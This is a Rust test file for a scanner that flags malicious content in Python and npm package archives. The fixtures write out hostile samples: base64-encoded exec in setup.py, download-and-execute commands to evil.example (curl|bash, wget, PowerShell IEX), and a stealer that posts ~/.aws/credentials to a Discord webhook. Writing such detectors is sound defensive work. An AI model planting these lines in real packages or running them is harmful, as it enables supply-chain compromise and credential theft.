//! Content rules against crafted artifacts, built in memory.

use super::*;
use crate::verdict::archive::tests::{tgz, zip};

fn files(list: &[(&str, &str)]) -> Vec<(String, Vec<u8>)> {
    list.iter()
        .map(|(p, d)| (p.to_string(), d.as_bytes().to_vec()))
        .collect()
}

fn codes(f: &[Finding]) -> Vec<&str> {
    f.iter().map(|f| f.code.as_str()).collect()
}

fn points(f: &[Finding]) -> i32 {
    f.iter().map(|f| f.points).sum()
}

/// 300 pseudo-random base64 characters: a packed payload's literal.
fn random_blob() -> String {
    let mut blob = String::new();
    let mut x: u32 = 7;
    for _ in 0..300 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
        blob.push(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                [(x >> 16) as usize % 64] as char,
        );
    }
    blob
}

/// A small but real-looking library: subprocess in a module, base64,
/// HTTP posts, environment reads, a README that pipes curl into sh.
const HARMLESS: &[(&str, &str)] = &[
    (
        "tidyfmt-1.4.2/setup.py",
        "from setuptools import setup, find_packages\n\nsetup(\n    name=\"tidyfmt\",\n    version=\"1.4.2\",\n    packages=find_packages(),\n    install_requires=[\"requests>=2\"],\n)\n",
    ),
    (
        "tidyfmt-1.4.2/README.md",
        "# tidyfmt\n\nInstall the formatter binary:\n\n    curl -sSf https://example.com/install.sh | sh\n",
    ),
    (
        "tidyfmt-1.4.2/tidyfmt/runner.py",
        "\"\"\"Runs the external formatter.\"\"\"\nimport base64\nimport os\nimport subprocess\n\n\ndef run(paths, check=False):\n    cmd = [\"tidyfmt-bin\", \"--check\" if check else \"--write\", *paths]\n    env = dict(PATH=os.environ.get(\"PATH\", \"\"))\n    proc = subprocess.run(cmd, capture_output=True, env=env)\n    return proc.returncode\n\n\nHINT = \"tidyfmt-bin not found; install it: curl -sSf https://example.com/i.sh | sh\"\n\n\ndef encode_config(text):\n    return base64.b64encode(text.encode()).decode()\n\n\ndef decode_config(blob):\n    return base64.b64decode(blob).decode()\n",
    ),
    (
        "tidyfmt-1.4.2/tidyfmt/telemetry.py",
        "import json\nimport requests\n\nENDPOINT = \"https://telemetry.example.com/v1/events\"\nDIGEST = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a089f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a089f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"\n\n\ndef send(event, token):\n    headers = {\"Authorization\": f\"Bearer {token}\"}\n    return requests.post(ENDPOINT, data=json.dumps(event), headers=headers, timeout=5)\n\n\ndef evaluate(expr, names):\n    return eval(expr, {\"__builtins__\": {}}, names)\n",
    ),
    (
        "tidyfmt-1.4.2/tidyfmt/static/app.js",
        "const re = /([a-z]+)=(\\d+)/g;\nfunction parse(s) { const m = re.exec(s); return m && m[1]; }\nexport async function load(url) { const r = await fetch(url); return r.json(); }\nconst ICON = \"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\";\n",
    ),
    (
        "tidyfmt-1.4.2/tests/test_net.py",
        "def test_local():\n    assert connect(\"http://127.0.0.1:8080\")\n    assert connect(\"http://192.168.1.10/api\")\n",
    ),
];

#[test]
fn every_rule_compiles_and_every_code_is_listed() {
    let c = compile().unwrap();
    assert_eq!(c.each.len(), RULES.len());
    for r in RULES {
        let listed = CODES.iter().find(|(code, _, _)| *code == r.code);
        let (_, points, _) = listed.unwrap_or_else(|| panic!("{} not in CODES", r.code));
        assert!(r.points <= *points, "{}", r.code);
    }
    for (code, _, _) in crate::verdict::install_code::CODES {
        assert!(
            !CODES.iter().any(|(c, _, _)| c == code),
            "{code} listed twice"
        );
    }
}

#[test]
fn harmless_library_has_no_findings() {
    let f = files(HARMLESS);
    assert_eq!(scan(&f), vec![]);
    let bytes = tgz(
        &HARMLESS
            .iter()
            .map(|(p, d)| (*p, d.as_bytes()))
            .collect::<Vec<_>>(),
        &[],
    );
    let r = scan_artifact("tidyfmt-1.4.2.tar.gz", &bytes, &ArchiveLimits::default());
    assert_eq!((r.findings, r.files_scanned), (vec![], 5));
}

#[test]
fn setup_py_exec_of_base64_is_red() {
    let setup = "import base64\nfrom setuptools import setup\n\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\nsetup(name='x')\n";
    let bytes = tgz(&[("x-0.1/setup.py", setup.as_bytes())], &[]);
    let r = scan_artifact("x-0.1.tar.gz", &bytes, &ArchiveLimits::default());
    assert_eq!(codes(&r.findings), [EXEC_ENCODED]);
    assert_eq!(r.findings[0].points, 60);
    assert_eq!(
        r.findings[0].evidence,
        ["x-0.1/setup.py:4: exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))"]
    );
}

#[test]
fn encoded_exec_variants() {
    for line in [
        "eval(compile(zlib.decompress(base64.b64decode(b'eJzLSM3JyQcABiwCFQ==')), '<s>', 'exec'))",
        "exec(marshal.loads(data))",
        "exec(__import__('base64').b64decode(p))",
        "exec(''.join(chr(c) for c in codes))",
        "x=1;eval(atob('YWxlcnQoMSk='))",
        "new Function(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2Vzcycp', 'base64').toString())()",
    ] {
        let f = scan(&files(&[("pkg/m.js", line)]));
        assert_eq!(codes(&f), [EXEC_ENCODED], "{line}");
    }
}

#[test]
fn download_and_execute_variants() {
    for (path, text) in [
        ("x/setup.py", "import os\nos.system(\"wget -q http://evil.example/p -O /tmp/p && sh /tmp/p\")\n"),
        ("x/run.sh", "#!/bin/sh\ncurl -fsSL https://evil.example/i | bash\n"),
        ("x/m.py", "import os\nos.system('cd /tmp && curl -s https://evil.example/i | sh')\n"),
        ("x/m.py", "import urllib.request\nexec(urllib.request.urlopen('https://evil.example/s').read())\n"),
        ("x/m.py", "from urllib.request import urlopen\ncode = urlopen(URL).read()\n\nexec(code)\n"),
        ("x/i.ps1", "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n"),
        ("x/i.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')\n"),
        ("x/i.ps1", "iex(iwr http://evil.example/a -UseBasicParsing)\n"),
        ("x/i.ps1", "irm http://evil.example/a | iex\n"),
    ] {
        let f = scan(&files(&[(path, text)]));
        assert!(codes(&f).contains(&DOWNLOAD_EXEC), "{text}: {f:?}");
        assert!(points(&f) >= 50, "{text}: {f:?}");
    }
}

#[test]
fn credential_stealer_posting_to_discord_is_red() {
    let stealer = "import os, requests\n\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbCdEfGhIjKlMnOpQrSt'\n\ndef grab():\n    with open(os.path.expanduser('~/.aws/credentials')) as f:\n        data = f.read()\n    requests.post(HOOK, json={'content': data})\n\ngrab()\n";
    let bytes = zip(&[
        ("helper/__init__.py", stealer.as_bytes()),
        (
            "helper-0.1.dist-info/WHEEL",
            b"Wheel-Version: 1.0\nTag: py3-none-any\n",
        ),
    ]);
    let r = scan_artifact(
        "helper-0.1-py3-none-any.whl",
        &bytes,
        &ArchiveLimits::default(),
    );
    assert_eq!(
        codes(&r.findings),
        [EXFIL_ENDPOINT, CREDENTIAL_EXFIL],
        "{r:?}"
    );
    assert!(points(&r.findings) >= 50);
    let ev = &r.findings[1].evidence;
    assert!(
        ev[0].starts_with("helper/__init__.py:6: with open"),
        "{ev:?}"
    );
    assert!(
        ev[1].starts_with("helper/__init__.py:8: requests.post"),
        "{ev:?}"
    );
}

#[test]
fn credentials_alone_or_tokens_in_a_client_are_low() {
    let f = scan(&files(&[("p/conf.py", "PATH = '~/.aws/credentials'\n")]));
    assert_eq!((codes(&f), points(&f)), (vec![CREDENTIAL_ACCESS], 10));
    // A GitHub client reading GITHUB_TOKEN and calling the API is normal...
    let client = "import os, requests\ntok = os.environ['GITHUB_TOKEN']\nrequests.get(API, headers={'Authorization': tok})\n";
    let f = scan(&files(&[("p/gh.py", client)]));
    assert_eq!((codes(&f), points(&f)), (vec![CREDENTIAL_ACCESS], 10));
    // ...but not at install time.
    let f = scan(&files(&[("p-1/setup.py", client)]));
    assert_eq!(codes(&f), [CREDENTIAL_EXFIL]);
}

#[test]
fn install_spawn_only_counts_at_install_time() {
    let js = "const { execSync } = require('child_process');\nexecSync('node-gyp rebuild');\n";
    let pkg = r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node scripts/post.js","test":"jest"}}"#;
    let f = scan(&files(&[
        ("package/package.json", pkg),
        ("package/scripts/post.js", js),
        ("package/lib/run.js", js),
    ]));
    assert_eq!(codes(&f), [INSTALL_SPAWN]);
    assert_eq!(
        f[0].evidence,
        ["package/scripts/post.js:1: const { execSync } = require('child_process');"]
    );
    let f = scan(&files(&[(
        "x-1/setup.py",
        "import subprocess\nsubprocess.check_call(['make'])\n",
    )]));
    assert_eq!((codes(&f), points(&f)), (vec![INSTALL_SPAWN], 10));
}

#[test]
fn endpoints_obfuscation_and_ips() {
    let blob = random_blob();
    let f = scan(&files(&[("p/a.py", &format!("PAYLOAD = '{blob}'\n"))]));
    assert_eq!((codes(&f), points(&f)), (vec![OBFUSCATION], 20));
    let f = scan(&files(&[(
        "p/a.py",
        "requests.get('http://45.13.2.9:8000/x')\n",
    )]));
    assert_eq!((codes(&f), points(&f)), (vec![EXFIL_ENDPOINT], 20));
    // A Telegram client library names the API without a bot token: fine.
    let f = scan(&files(&[(
        "p/bot.py",
        "BASE = 'https://api.telegram.org/bot'\n",
    )]));
    assert_eq!(f, vec![]);
}

#[test]
fn alias_lists_are_not_powershell_commands() {
    // A syntax highlighter's keyword list (pygments' PowerShell lexer)
    // names `iex` and `irm` side by side: no call, no download.
    let lexer = "KEYWORDS = (\n    'h history icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp '\n)\n";
    assert_eq!(scan(&files(&[("pygments/lexers/shell.py", lexer)])), vec![]);
}

#[test]
fn weak_signals_in_test_suites_do_not_count() {
    // pandas' own tests: a fake AWS key in a fixture, a random literal.
    let conftest = "def aws(monkeysession):\n    monkeysession.setenv(\"AWS_SECRET_ACCESS_KEY\", \"testing\")\n";
    let blob = random_blob();
    let entropy = &format!("EXPECTED = '{blob}'\n");
    for path in [
        "pandas/tests/io/conftest.py",
        "pandas/tests/util/test_hashing.py",
        "lib/__tests__/fixture.test.js",
    ] {
        assert_eq!(
            scan(&files(&[(path, conftest), (path, entropy)])),
            vec![],
            "{path}"
        );
    }
    // The same lines in library code still count…
    let f = scan(&files(&[
        ("pkg/io.py", conftest),
        ("pkg/hashing.py", entropy),
    ]));
    assert_eq!(codes(&f), [CREDENTIAL_ACCESS, OBFUSCATION], "{f:?}");
    // …and strong signals count in tests too.
    let stealer = "import requests, os\nrequests.post('https://discord.com/api/webhooks/1/abc', data=open(os.path.expanduser('~/.aws/credentials')).read())\n";
    let f = scan(&files(&[("pkg/tests/test_x.py", stealer)]));
    assert!(codes(&f).contains(&CREDENTIAL_EXFIL), "{f:?}");
}

#[test]
fn bundled_executables_depend_on_the_artifact() {
    let elf = "\x7fELF\x02\x01\x01";
    let pure = ("p-1.dist-info/WHEEL", "Tag: py3-none-any\n");
    let plat = (
        "p-1.dist-info/WHEEL",
        "Tag: cp312-cp312-manylinux_2_17_x86_64\n",
    );
    let f = scan(&files(&[pure, ("p/helper", elf)]));
    assert_eq!((codes(&f), points(&f)), (vec![BUNDLED_EXECUTABLE], 25));
    assert_eq!(scan(&files(&[plat, ("p/_speedups.so", elf)])), vec![]);
    assert_eq!(
        scan(&files(&[pure, ("setuptools/cli-64.exe", "MZ")])),
        vec![]
    );
    // distlib's launchers, in distlib itself and vendored.
    for path in ["distlib/t32.exe", "pip/_vendor/distlib/w64-arm.exe"] {
        assert_eq!(scan(&files(&[pure, (path, "MZ")])), vec![], "{path}");
    }
    assert_eq!(
        scan(&files(&[
            ("package/package.json", "{}"),
            ("package/build/Release/addon.node", elf)
        ])),
        vec![]
    );
    assert_eq!(
        codes(&scan(&files(&[("x-1/tools/run.exe", "MZ")]))),
        [BUNDLED_EXECUTABLE]
    );
}

#[test]
fn pipe_to_shell_counts_in_scripts_not_in_messages() {
    let line = "curl -fsSL https://evil.example/i | sh\n";
    for (path, text, hit) in [
        ("x/bin/tool", format!("#!/usr/bin/env bash\n{line}"), true),
        (
            "x/bin/tool",
            format!("#!/usr/bin/python3\nprint('{}')", line.trim()),
            false,
        ),
        ("x/install.bat", line.to_string(), true),
        ("x/m.py", format!("MSG = '{}'", line.trim()), false),
    ] {
        let f = scan(&files(&[(path, &text)]));
        assert_eq!(!f.is_empty(), hit, "{text}: {f:?}");
    }
}
